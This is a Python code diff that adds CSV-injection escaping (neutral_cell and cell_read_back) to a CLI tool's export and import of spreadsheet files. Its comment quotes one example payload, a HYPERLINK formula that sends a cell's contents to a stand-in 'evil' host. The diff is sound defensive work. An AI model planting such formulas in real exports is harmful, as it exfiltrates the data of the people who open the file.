@@ -647,3 +647,28 @@ def allow_large_csv_cells() -> None:
 
     if csv.field_size_limit() != CSV_FIELD_LIMIT:
         csv.field_size_limit(CSV_FIELD_LIMIT)
+
+
+# A CSV cell a spreadsheet would run as a formula (an output `=HYPERLINK("http://evil/?"&A1)`, a var
+# `@SUM(…)`) is written with a leading ' so that it shows as text (OWASP's CSV injection advice);
+# numbers (-0.5) stay numbers. Every CSV factcli writes for people (exports, `ratings export`) follows
+# this rule, and a CSV factcli reads back as its own (calibrate's labels) takes the ' off again.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutral_cell(value):
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        try:
+            float(value)
+        except ValueError:
+            return "'" + value
+    if isinstance(value, str) and value.startswith("'"):  # so that reading back is exact (cell_read_back)
+        return "'" + value
+    return value
+
+
+def cell_read_back(value):
+    """What neutral_cell wrote, as it was (a cell `'=…` is `=…`): the inverse, for factcli's own files."""
+    if isinstance(value, str) and value.startswith("'") and neutral_cell(value[1:]) == value:
+        return value[1:]
+    return value
